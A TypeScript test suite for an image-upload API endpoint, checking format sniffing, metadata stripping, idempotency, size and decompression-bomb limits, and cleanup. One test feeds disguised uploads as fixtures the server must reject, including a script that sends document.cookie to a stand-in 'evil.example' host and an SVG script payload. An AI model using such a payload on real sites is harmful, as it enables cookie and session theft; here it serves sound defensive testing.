// POST /media: images sniffed from their bytes (never from the name or the Content-Type), the
// size and pixel limits enforced before decoding, animated GIF rules, metadata (GPS) stripped with
// the orientation applied, retry-safe with an idempotency key, stored on both databases, and
// unused uploads swept after 24 h.
import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newIdempotencyKey, unwrap } from '../../clients/typescript/src/index.js';
import { sweepUnusedMedia } from '../../server/services/media.js';
import { animatedGif, hasGpsIfd, noise, photoWithGps, pngBomb, upload } from '../support/images.js';
import { V1 } from '../support/api.js';
import { startTestServer, type TestServer } from '../support/server.js';

let s: TestServer;
beforeAll(async () => {
  s = await startTestServer({ env: { MEDIA_MAX_BYTES: String(3 * 1024 * 1024) } });
});
afterAll(async () => {
  await s?.stop();
});

const uploadRows = async () => (await s.running.deps.db.selectFrom('MediaUpload').select('id').execute()).length;
const blobCount = async () =>
  s.db.kind === 'postgresql'
    ? new Set((await s.running.deps.db.selectFrom('BlobChunk').select('blobId').execute()).map((c) => c.blobId)).size
    : existsSync(path.join(s.db.dataDir, 'blobs'))
      ? readdirSync(path.join(s.db.dataDir, 'blobs')).length
      : 0;

async function storedBytes(id: string): Promise<Buffer> {
  const row = await s.running.deps.db.selectFrom('MediaUpload').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
  const { uploadBytes } = await import('../../server/services/media.js');
  return (await uploadBytes(s.running.deps, row)).bytes;
}

describe('POST /media', () => {
  it('stores a photo without its EXIF (GPS gone), orientation applied; a replay answers the first upload', async () => {
    const photo = await photoWithGps(40, 20);
    const before = await sharp(photo).metadata();
    expect(hasGpsIfd(before.exif)).toBe(true);
    expect(before.orientation).toBe(6);
    const key = newIdempotencyKey();
    const alt = 'Sunset over the Seine 🌇 — la tour Eiffel au loin; 日没; مغيب';
    const r = await upload(s, photo, { idempotency_key: key, alt_text: alt }, 'application/octet-stream');
    expect(r.json).toMatchObject({ id: expect.any(String) });
    expect(r.status).toBe(201);
    expect(r.json).toMatchObject({ type: 'image', content_type: 'image/jpeg', width: 20, height: 40, frames: 1, alt_text: alt, in_use: false });
    expect(Date.parse(r.json.expires_at) - Date.parse(r.json.created_at)).toBe(24 * 3600 * 1000);
    const stored = await storedBytes(r.json.id);
    expect(stored.length).toBe(r.json.size_bytes);
    const after = await sharp(stored).metadata();
    expect(after.exif).toBeUndefined();
    expect(after.orientation).toBeUndefined();
    expect([after.width, after.height]).toEqual([20, 40]);
    expect(stored.includes(Buffer.from('TestCam'))).toBe(false);

    const replay = await upload(s, photo, { idempotency_key: key, alt_text: alt });
    expect(replay.status).toBe(200);
    expect(replay.headers.get('idempotent-replayed')).toBe('true');
    expect(replay.json).toEqual(r.json);
    const other = await upload(s, photo, { idempotency_key: key, alt_text: 'another description' });
    expect(other.status).toBe(422);
    expect(other.json.error.message).toMatch(/^idempotency_key /);

    const got = await unwrap(s.client().GET(`${V1}/media/{id}`, { params: { path: { id: r.json.id } } }));
    expect(got).toEqual(r.json);
  });

  it('judges the format from the bytes: a PNG sent as image/jpeg is a PNG; HTML or SVG named and typed as an image is refused, leaving nothing', async () => {
    const png = await sharp({ create: { width: 30, height: 10, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0.5 } } })
      .png()
      .toBuffer();
    const r = await upload(s, png, {}, 'image/jpeg');
    expect(r.status).toBe(201);
    expect(r.json).toMatchObject({ content_type: 'image/png', width: 30, height: 10 });
    const webp = await sharp({ create: { width: 12, height: 12, channels: 3, background: 'blue' } })
      .webp()
      .toBuffer();
    expect((await upload(s, webp, {}, 'image/gif')).json.content_type).toBe('image/webp');

    const rows = await uploadRows();
    const blobs = await blobCount();
    const disguised = [
      Buffer.from('<!doctype html><script>fetch("https://evil.example/"+document.cookie)</script>'),
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'),
      Buffer.concat([Buffer.from('GIF89a'), Buffer.from('not really a gif at all')]),
      Buffer.from('%PDF-1.7\n'),
    ];
    for (const body of disguised) {
      const bad = await upload(s, body, { alt_text: 'photo.jpg' }, 'image/jpeg');
      expect(bad.status).toBe(422);
      expect(bad.json.error.code).toBe('validation_failed');
      expect(bad.json.error.message).toMatch(/^body is not a (readable GIF image|JPEG, PNG, WebP or GIF image)/);
    }
    expect(await uploadRows()).toBe(rows);
    expect(await blobCount()).toBe(blobs);
  });

  it('refuses an image over MEDIA_MAX_BYTES (413) and a decompression bomb by its header (422), keeping nothing', async () => {
    const rows = await uploadRows();
    const big = await noise(1100, 1100, 'png');
    expect(big.length).toBeGreaterThan(3 * 1024 * 1024);
    const tooBig = await upload(s, big, {}, 'image/png');
    expect(tooBig.status).toBe(413);
    expect(tooBig.json.error.message).toContain('MEDIA_MAX_BYTES');

    const bomb = await pngBomb(60_000, 60_000);
    expect(bomb.length).toBeLessThan(200);
    const t0 = Date.now();
    const refused = await upload(s, bomb, {}, 'image/png');
    expect(refused.status).toBe(422);
    expect(refused.json.error.message).toBe('body has 60000×60000 pixels (3600000000 in all); at most 50000000 pixels and 16384 on a side are accepted');
    expect(Date.now() - t0).toBeLessThan(5000);
    const tall = await upload(s, await pngBomb(2, 20_000), {}, 'image/png');
    expect(tall.status).toBe(422);
    expect(await uploadRows()).toBe(rows);
  });

  it('animated GIFs: kept animated up to 300 frames, refused beyond', async () => {
    const ok = await upload(s, await animatedGif(3), {}, 'image/gif');
    expect(ok.status).toBe(201);
    expect(ok.json).toMatchObject({ type: 'gif', content_type: 'image/gif', width: 8, height: 6, frames: 3 });
    const stored = await sharp(await storedBytes(ok.json.id), { animated: true }).metadata();
    expect(stored.pages).toBe(3);
    const still = await upload(
      s,
      await sharp({ create: { width: 5, height: 5, channels: 3, background: 'red' } })
        .gif()
        .toBuffer(),
      {},
      'image/gif',
    );
    expect(still.json).toMatchObject({ type: 'gif', frames: 1 });
    const long = await upload(s, await animatedGif(301, 2, 2), {}, 'image/gif');
    expect(long.status).toBe(422);
    expect(long.json.error.message).toBe('body has 301 frames; an animated image may have at most 300');
  });

  it('an upload of another workspace is 404; an unknown id is 404', async () => {
    const mine = await upload(s, await photoWithGps());
    const otherToken = await s.newWorkspace();
    const theirs = await s.client(otherToken).GET(`${V1}/media/{id}`, { params: { path: { id: mine.json.id } } });
    expect(theirs.response.status).toBe(404);
    const res = await s.client().GET(`${V1}/media/{id}`, { params: { path: { id: 'med_0000000000000000' } } });
    expect(res.response.status).toBe(404);
  });

  it('sweeps uploads no artifact used within 24 h, bytes included', async () => {
    const r = await upload(s, await photoWithGps());
    const blobs = await blobCount();
    const deps = s.running.deps;
    expect(await sweepUnusedMedia({ ...deps, clock: { now: () => new Date(Date.now() + 23 * 3600 * 1000) } })).toBe(0);
    const removed = await sweepUnusedMedia({ ...deps, clock: { now: () => new Date(Date.now() + 25 * 3600 * 1000) } });
    expect(removed).toBeGreaterThanOrEqual(1);
    expect(await uploadRows()).toBe(0);
    expect(await blobCount()).toBeLessThan(blobs);
    const res = await s.client().GET(`${V1}/media/{id}`, { params: { path: { id: r.json.id } } });
    expect(res.response.status).toBe(404);
  });
});
